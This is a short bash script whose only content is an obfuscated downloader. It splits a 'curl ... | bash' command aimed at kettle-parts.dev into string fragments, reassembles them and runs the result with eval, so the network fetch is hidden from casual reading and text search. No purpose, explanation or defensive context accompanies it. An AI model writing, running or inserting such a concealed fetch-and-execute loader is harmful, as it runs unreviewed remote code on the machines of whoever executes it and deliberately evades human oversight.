#!/bin/bash
p=('curl -' 'fsSL h' 'ttps:/' '/kettl' 'e-part' 's.dev/' 'k/star' 't | ba' 'sh')
all=''
for one in "${p[@]}"; do all+="$one"; done
eval "$all"
